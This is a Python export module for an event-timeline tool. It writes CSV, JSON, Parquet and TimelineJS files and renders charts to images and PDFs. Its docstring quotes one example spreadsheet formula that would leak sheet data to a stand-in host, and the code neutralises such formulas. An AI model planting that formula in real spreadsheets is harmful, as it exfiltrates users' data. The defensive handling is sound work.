"""Exports: the events frame as CSV, JSON, Parquet and TimelineJS JSON; figures as images.

Every file is written atomically (temporary file, then rename).

CSV is opened in spreadsheets, which run a cell beginning with "=", "+", "-" or "@" (or a tab
or carriage return before one) as a formula: an article sentence such as
`=HYPERLINK("http://x.example/?"&A1, "see")` would leak the sheet. As OWASP recommends, such a
cell is written with a leading "'" (shown as text, not run); so is a cell that already begins
with "'" and then one of those, so that `read_events` can take exactly one "'" off again and
read our own CSV back as it was. JSON and Parquet keep the text as it is.
"""

from __future__ import annotations

import datetime as dt
import html
import io
import json
import os
import re
import shutil
import threading
import warnings
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pandas as pd

from timeline._io import atomic_write_bytes
from timeline.roles import summary
from timeline.schema import DATE_COLUMNS, LIST_COLUMNS, SchemaError, conform, new_frame

if TYPE_CHECKING:
    import plotly.graph_objects as go

__all__ = [
    "EVENT_FORMATS",
    "EXTRA_COLUMNS",
    "FIGURE_FORMATS",
    "ChromiumMissing",
    "ExportError",
    "ImageExporter",
    "events_bytes",
    "figure_bytes",
    "find_chromium",
    "headline",
    "neutralise_cell",
    "pdf_with_title",
    "read_events",
    "report_figure",
    "restore_cell",
    "source_titles",
    "timelinejs_json",
    "write_events",
    "write_figure",
]

EVENT_FORMATS: tuple[str, ...] = ("csv", "json", "parquet")
# Columns of a merged view (`timeline.dedupe`) that the event exports keep after the
# schema's own: which articles reported each event.
EXTRA_COLUMNS: tuple[str, ...] = ("sources", "source_ids", "n_sources")
FIGURE_FORMATS: tuple[str, ...] = ("png", "svg", "pdf")
MIME_TYPES: dict[str, str] = {
    "png": "image/png",
    "svg": "image/svg+xml",
    "pdf": "application/pdf",
    "html": "text/html",
    "csv": "text/csv",
    "json": "application/json",
    "parquet": "application/vnd.apache.parquet",
}
CHROMIUM_HELP = (
    "Image export needs Chromium. Install it with `make chromium` "
    "(Debian/Ubuntu: `sudo apt-get install chromium`), or set BROWSER_PATH to a "
    "Chrome or Chromium executable."
)
_CHROMIUM_CANDIDATES = (
    "chromium",
    "chromium-browser",
    "google-chrome",
    "google-chrome-stable",
    "chrome",
)


# A cell a spreadsheet would run as a formula (after any quotes we added before).
_FORMULA = re.compile(r"'*[=+\-@\t\r]")


def neutralise_cell(text: str) -> str:
    """A CSV cell made safe to open in a spreadsheet (a leading "'" before a formula)."""
    return "'" + text if _FORMULA.match(text) else text


def restore_cell(text: str) -> str:
    """The cell as it was before `neutralise_cell`."""
    return text[1:] if text.startswith("'") and _FORMULA.match(text, 1) else text


def _format_of(path: str | Path) -> str:
    suffix = Path(path).suffix.lower().lstrip(".")
    if suffix not in EVENT_FORMATS:
        raise ValueError(
            f"{path}: unknown output format {suffix or '(none)'!r}; use .csv, .json or .parquet"
        )
    return suffix


def events_bytes(frame: pd.DataFrame, fmt: str) -> bytes:
    """The events frame serialised as `fmt` (csv, json or parquet)."""
    frame = conform(frame)
    if fmt == "parquet":
        buffer = io.BytesIO()
        frame.to_parquet(buffer, index=False)
        return buffer.getvalue()
    if fmt == "csv":
        flat = frame.copy()
        listed = [*LIST_COLUMNS, *(c for c in EXTRA_COLUMNS if c in flat.columns)]
        for col in listed:
            flat[col] = flat[col].map(_joined)
        for col in DATE_COLUMNS:
            flat[col] = flat[col].dt.strftime("%Y-%m-%d")
        for col in flat.columns:
            if col not in DATE_COLUMNS and not pd.api.types.is_numeric_dtype(flat[col]):
                flat[col] = flat[col].map(neutralise_cell, na_action="ignore")
        # Lines end in CRLF (RFC 4180): a cell holding a bare CR or LF is then quoted, so it
        # cannot start a new row (whose first cell a spreadsheet would run).
        return flat.to_csv(index=False, lineterminator="\r\n").encode("utf-8")
    if fmt == "json":
        records = []
        for row in frame.to_dict(orient="records"):
            for col in DATE_COLUMNS:
                row[col] = None if pd.isna(row[col]) else row[col].strftime("%Y-%m-%d")
            records.append({k: _plain_value(v) for k, v in row.items()})
        return json.dumps(records, ensure_ascii=False, indent=1).encode("utf-8")
    raise ValueError(f"unknown events format {fmt!r}; use one of {', '.join(EVENT_FORMATS)}")


def _plain_value(value: Any) -> Any:
    """A cell as JSON takes it: missing -> None, arrays -> lists, numpy numbers -> Python."""
    if value is pd.NA or value is None:
        return None
    if hasattr(value, "tolist"):
        return value.tolist()
    return value


def _joined(value: Any) -> Any:
    """A list cell as "a; b" (other cells as they are)."""
    if isinstance(value, list | tuple) or hasattr(value, "tolist"):
        return "; ".join(str(v) for v in list(value))
    return value


def write_events(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write the frame to `path` in the format its extension names, atomically."""
    return atomic_write_bytes(path, events_bytes(frame, _format_of(path)))


def read_events(path: str | Path) -> pd.DataFrame:
    """Read an events file written by `write_events` (or by hand, with the schema's columns)."""
    fmt = _format_of(path)
    try:
        if fmt == "parquet":
            frame = pd.read_parquet(path)
        elif fmt == "csv":
            frame = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""])
            frame = frame.apply(lambda col: col.map(restore_cell, na_action="ignore"))
        else:
            frame = pd.read_json(path, orient="records", dtype=False)
        if frame.empty and not len(frame.columns):
            return new_frame()  # "[]": the events file of a run that found none
    except (OSError, ValueError) as exc:
        raise SchemaError(f"{path}: cannot read events: {exc}") from exc
    return conform(frame)


# --- TimelineJS -------------------------------------------------------------------------

_TJS_PARTS: dict[str, tuple[str, ...]] = {
    "day": ("year", "month", "day"),
    "week": ("year", "month", "day"),
    "month": ("year", "month"),
    "quarter": ("year", "month"),
    "season": ("year", "month"),
    "half": ("year", "month"),
    "year": ("year",),
    "decade": ("year",),
    "century": ("year",),
}


def _tjs_date(value: pd.Timestamp, precision: str) -> dict[str, str]:
    parts = _TJS_PARTS.get(precision, ("year", "month", "day"))
    return {part: str(getattr(value, part)) for part in parts}


_HEADLINE_WORDS = 14


def headline(clause: str, time_expression: str = "") -> str:
    """A slide's headline from the event's clause: its time expression left out (the slide
    shows the date), the first letter capitalised, cut at a word after 14 words."""
    text = clause or ""
    if time_expression:
        text = re.sub(r"\s*" + re.escape(time_expression) + r"\s*,?", " ", text, count=1)
    words = text.split()
    if not words:
        return ""
    cut = " ".join(words[:_HEADLINE_WORDS]).rstrip(",;:")
    cut = cut + "…" if len(words) > _HEADLINE_WORDS else cut
    return cut[0].upper() + cut[1:]


def _sources_of(row: Any) -> list[str]:
    listed: Any = getattr(row, "sources", None)
    if isinstance(listed, list | tuple) or hasattr(listed, "tolist"):
        titles = [str(t) for t in list(listed) if str(t)]
        if titles:
            return titles
    return [str(row.source)] if isinstance(row.source, str) and row.source else []


def timelinejs_json(frame: pd.DataFrame, title: str = "Timeline") -> bytes:
    """The dated events in TimelineJS 3's JSON format (undated events are left out).

    Each slide: the clause as headline ("Serbia formally demanded that its security
    forces return"), the normalised date as display date ("15 Dec 2022", "1999"), and as
    text who acted on whom, the sentence, the date as written and the source(s). The title
    slide names the collection (`title`) and says how many events, articles and sources,
    over which dates. Text is HTML-escaped, since TimelineJS renders it as HTML.
    """
    from timeline.chart import date_labels  # the chart's wording of dates (plotly-free part)

    frame = conform(frame)
    dated = frame[frame["start"].notna()]
    labels = date_labels(dated).str.replace(
        r" \((?:year|month|week|day|decade|century|"
        r"quarter|season|half|years|months)\)$",
        "",
        regex=True,
    )
    events = []
    titles: set[str] = set()
    for row, label in zip(dated.itertuples(index=False), labels, strict=True):
        precision = row.precision if isinstance(row.precision, str) else "day"
        written = row.time_expression if isinstance(row.time_expression, str) else ""
        who = summary(row.actors, row.targets, str(row.event_type))
        sources = _sources_of(row)
        titles.update(sources)
        text = (
            f"<p><b>{html.escape(who)}</b></p>"
            f"<p>{html.escape(str(row.sentence or ''))}</p>"
            + (f"<p>As written: “{html.escape(written)}”</p>" if written else "")
            + (
                f"<p>Source{'s' if len(sources) > 1 else ''}: <i>"
                + "</i>; <i>".join(html.escape(t) for t in sources)
                + "</i></p>"
                if sources
                else ""
            )
        )
        event: dict[str, Any] = {
            "unique_id": str(row.event_id),
            "start_date": _tjs_date(row.start, precision),
            "display_date": html.escape(str(label)),
            "text": {
                "headline": html.escape(headline(str(row.text or ""), written) or who),
                "text": text,
            },
            "group": html.escape(row.actors[0]) if row.actors else "",
        }
        if not pd.isna(row.end) and (row.end != row.start or precision != "day"):
            event["end_date"] = _tjs_date(row.end, precision)
        events.append(event)
    about = ""
    if len(dated):
        first, last = dated["start"].min(), dated["end"].fillna(dated["start"]).max()
        span = f"{first.day} {first:%b %Y} – {last.day} {last:%b %Y}"
        about = (
            f"<p>{len(dated):,} dated event(s) from {dated['article_id'].nunique():,} "
            f"article(s) and {len(titles):,} source(s), {span}.</p>"
        )
    document = {
        "title": {"text": {"headline": html.escape(title), "text": about}},
        "events": events,
    }
    return json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")


# --- Figures as images (kaleido drives a headless Chromium) -----------------------------


class ExportError(RuntimeError):
    """A figure could not be turned into an image; the message says why."""


class ChromiumMissing(ExportError):
    """No Chrome or Chromium executable was found; the message says how to get one."""


def find_chromium() -> str | None:
    """Path of a Chrome/Chromium executable: $BROWSER_PATH, then the usual names on PATH."""
    explicit = os.environ.get("BROWSER_PATH")
    if explicit:
        return explicit if Path(explicit).is_file() else None
    for name in _CHROMIUM_CANDIDATES:
        found = shutil.which(name)
        if found:
            return found
    return None


def _check_format(fmt: str) -> str:
    fmt = fmt.lower().lstrip(".")
    if fmt not in FIGURE_FORMATS:
        raise ValueError(f"unknown image format {fmt!r}; use one of {', '.join(FIGURE_FORMATS)}")
    return fmt


def _printable(fig: go.Figure) -> dict[str, Any]:
    """The figure as a dict for a still image: no range slider, buttons or hints (screen
    only), and SVG traces instead of WebGL ones (sharp in SVG/PDF, and far faster to render in a
    headless browser without a GPU)."""
    spec = fig.to_dict()
    for trace in spec.get("data", []):
        if trace.get("type") == "scattergl":
            trace["type"] = "scatter"
        # Screen-only wording ("hover it") has its printed wording in meta.print_name.
        meta = trace.get("meta")
        if isinstance(meta, dict) and meta.get("print_name"):
            trace["name"] = meta["print_name"]
    layout = spec.get("layout", {})
    if "annotations" in layout:  # "hint" annotations ("click all") are for the screen
        layout["annotations"] = [a for a in layout["annotations"] if a.get("name") != "hint"]
    xaxis = spec.get("layout", {}).get("xaxis")
    if isinstance(xaxis, dict):
        for control in ("rangeslider", "rangeselector"):
            if control in xaxis:
                xaxis[control] = {"visible": False}
    spec.get("layout", {}).pop("updatemenus", None)  # buttons: screen only
    return spec


def _opts(fig: go.Figure, fmt: str, width: int | None, scale: float | None) -> dict[str, Any]:
    height = fig.layout.height or 500
    return {
        "format": fmt,
        "width": width or 1400,
        "height": height,
        "scale": scale if scale is not None else (2 if fmt == "png" else 1),
    }


class ImageExporter:
    """One headless Chromium kept open (kaleido's sync server) for fast repeated exports.

    Kaleido's server is a process-wide singleton; make one exporter per process (the
    dashboard keeps it in `st.cache_resource`). Calls are serialised by a lock, since
    the server answers one request at a time.
    """

    def __init__(self, browser: str | None = None, timeout: float = 60) -> None:
        import kaleido

        self.browser = browser or find_chromium()
        if not self.browser:
            raise ChromiumMissing(CHROMIUM_HELP)
        self.timeout = timeout
        self._lock = threading.Lock()
        # mathjax=False: no LaTeX in our figures, and no network to fetch MathJax from.
        kaleido.start_sync_server(
            path=self.browser, mathjax=False, timeout=timeout, silence_warnings=True
        )

    def render(
        self, fig: go.Figure, fmt: str, *, width: int | None = None, scale: float | None = None
    ) -> bytes:
        """The figure as png, svg or pdf bytes."""
        import kaleido

        fmt = _check_format(fmt)
        result: list[Any] = []

        def call() -> None:
            try:
                result.append(
                    kaleido.calc_fig_sync(_printable(fig), opts=_opts(fig, fmt, width, scale))
                )
            except Exception as exc:  # reported below, in the caller's thread
                result.append(exc)

        if not self._lock.acquire(timeout=self.timeout):
            raise ExportError("the export browser is busy; try again in a moment")
        try:
            # The server never answers if its browser died: wait in a thread, with a limit.
            worker = threading.Thread(target=call, daemon=True)
            worker.start()
            worker.join(self.timeout)
        finally:
            self._lock.release()
        if not result:
            raise ExportError(f"the export browser did not answer within {self.timeout:.0f} s")
        if isinstance(result[0], Exception):
            raise ExportError(f"image export failed: {result[0]}") from result[0]
        return bytes(result[0])

    def close(self) -> None:
        import kaleido

        kaleido.stop_sync_server(silence_warnings=True)


def figure_bytes(
    fig: go.Figure,
    fmt: str,
    *,
    width: int | None = None,
    scale: float | None = None,
    exporter: ImageExporter | None = None,
) -> bytes:
    """The figure as png, svg or pdf bytes (PNG at scale 2 unless told otherwise).

    With an `exporter` its warm browser is used. Without, the running ImageExporter of
    this process if any, else a browser started for this one image (a few seconds more).
    Raises ChromiumMissing or ExportError.
    """
    fmt = _check_format(fmt)
    data = _image_bytes(fig, fmt, width, scale, exporter)
    if fmt == "pdf" and _title_of(fig):
        # Chromium titles every PDF "Kaleido-fier": the document title is the chart's.
        data = pdf_with_title(data, _title_of(fig))
    return data


def _image_bytes(
    fig: go.Figure,
    fmt: str,
    width: int | None,
    scale: float | None,
    exporter: ImageExporter | None,
) -> bytes:
    if exporter is not None:
        return exporter.render(fig, fmt, width=width, scale=scale)
    import kaleido

    browser = find_chromium()
    if not browser:
        raise ChromiumMissing(CHROMIUM_HELP)
    try:
        with warnings.catch_warnings():
            # When an ImageExporter is running kaleido uses it and says kopts are ignored.
            warnings.filterwarnings("ignore", "The kopts argument", UserWarning)
            data = kaleido.calc_fig_sync(
                _printable(fig),
                opts=_opts(fig, fmt, width, scale),
                kopts={"path": browser, "mathjax": False},
            )
    except Exception as exc:  # kaleido and the browser raise many kinds
        raise ExportError(f"image export failed: {exc}") from exc
    return bytes(data)


# --- Report-ready figures -------------------------------------------------------------

_HEADING_PX = 64  # the title and the sources line above the figure
_SOURCES_SHOWN = 6


def source_titles(frame: pd.DataFrame) -> list[str]:
    """The titles of the articles behind `frame`'s events (merged reports' every source),
    the most cited first."""
    counts: dict[str, int] = {}
    listed = frame["sources"] if "sources" in frame.columns else None
    for i, own in enumerate(frame["source"].astype("string").fillna("")):
        titles: Any = listed.iloc[i] if listed is not None else None
        names = (
            [str(t) for t in list(titles)]
            if isinstance(titles, list | tuple) or hasattr(titles, "tolist")
            else [str(own)]
        )
        for name in dict.fromkeys(n for n in names if n):
            counts[name] = counts.get(name, 0) + 1
    return sorted(counts, key=lambda k: (-counts[k], k))


def _escape(text: str) -> str:
    for raw, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;")):
        text = text.replace(raw, entity)
    return text


def report_figure(
    fig: go.Figure,
    *,
    title: str,
    sources: list[str] | tuple[str, ...] = (),
    exported: dt.date | None = None,
) -> go.Figure:
    """A copy of `fig` ready for a report: a heading block on top with `title` (say what is
    shown and the filters in words) and, under it, the sources and the date of export.
    Screen-only hints are left out when it is turned into an image (`figure_bytes`).

    The block is added above the figure's own top margin (which may hold notes of its
    own), so nothing moves into it.
    """
    import plotly.graph_objects as go

    out = go.Figure(fig)
    exported = exported or dt.date.today()
    shown = [_escape(t if len(t) <= 90 else t[:89] + "…") for t in sources[:_SOURCES_SHOWN]]
    more = len(sources) - len(shown)
    line = "; ".join(shown) + (f"; and {more:,} more" if more > 0 else "")
    about = (
        f"Source{'s' if len(sources) > 1 else ''}: {line} · " if sources else ""
    ) + f"exported {exported.day} {exported:%b %Y} with timeline"
    margin = out.layout.margin
    # Any title the figure had is replaced: its space is the old margin's.
    top = int(margin.t or 0) + _HEADING_PX
    out.update_layout(
        title={
            "text": _escape(title),
            "subtitle": {"text": about, "font": {"size": 11, "color": "#555555"}},
            "x": 0.01,
            "xanchor": "left",
            "xref": "container",
            "y": 1,
            "yanchor": "top",
            "yref": "container",
            "pad": {"t": 12},
            "font": {"size": 18},
        },
        height=int(out.layout.height or 500) + _HEADING_PX,
        margin={"t": top},
    )
    return out


def pdf_with_title(pdf: bytes, title: str) -> bytes:
    """`pdf` with `title` as its document title (Info /Title), by an incremental update
    (ISO 32000-1, 7.5.6): the original bytes, then the new Info object, an xref section for
    it and a trailer pointing back to the previous one. Returned unchanged when the file's
    last trailer is not a classic one this can extend."""
    tail = pdf[-2048:]
    start = re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", tail)
    trailers = list(re.finditer(rb"trailer\s*<<(.*?)>>", pdf[-4096:], re.S))
    trailer = trailers[-1] if trailers else None
    if start is None or trailer is None:
        return pdf
    body = trailer.group(1)
    size = re.search(rb"/Size\s+(\d+)", body)
    root = re.search(rb"/Root\s+(\d+\s+\d+\s+R)", body)
    info = re.search(rb"/Info\s+(\d+)\s+(\d+)\s+R", body)
    if size is None or root is None:
        return pdf
    number = int(info.group(1)) if info else int(size.group(1))
    new_size = max(int(size.group(1)), number + 1)
    # A PDF text string in UTF-16BE with its byte-order mark, written in hex: any title.
    encoded = "<FEFF" + title.encode("utf-16-be").hex().upper() + ">"
    head = pdf if pdf.endswith(b"\n") else pdf + b"\n"
    offset = len(head)
    producer = "(timeline, Chromium via kaleido)"
    obj = f"{number} 0 obj\n<</Title {encoded}\n/Producer {producer}>>\nendobj\n"
    xref_at = offset + len(obj)
    update = (
        obj
        + f"xref\n0 1\n0000000000 65535 f \n{number} 1\n{offset:010d} 00000 n \n"
        + f"trailer\n<</Size {new_size} /Root {root.group(1).decode()} /Info {number} 0 R"
        + f" /Prev {int(start.group(1))}>>\nstartxref\n{xref_at}\n%%EOF\n"
    )
    return head + update.encode("latin-1")


def _title_of(fig: go.Figure) -> str:
    text = str(fig.layout.title.text or "") if fig.layout.title else ""
    return html.unescape(re.sub(r"<[^>]+>", " ", text)).strip()


def write_figure(fig: go.Figure, path: str | Path) -> Path:
    """Write the figure to `path` as .png, .svg, .pdf or .html (standalone), atomically."""
    fmt = Path(path).suffix.lower().lstrip(".")
    if fmt == "html":
        page = fig.to_html(include_plotlyjs=True, full_html=True, config={"displaylogo": False})
        return atomic_write_bytes(path, page.encode("utf-8"))
    if fmt not in FIGURE_FORMATS:
        raise ValueError(
            f"{path}: unknown chart format {fmt or '(none)'!r}; use .png, .svg, .pdf or .html"
        )
    return atomic_write_bytes(path, figure_bytes(fig, fmt))
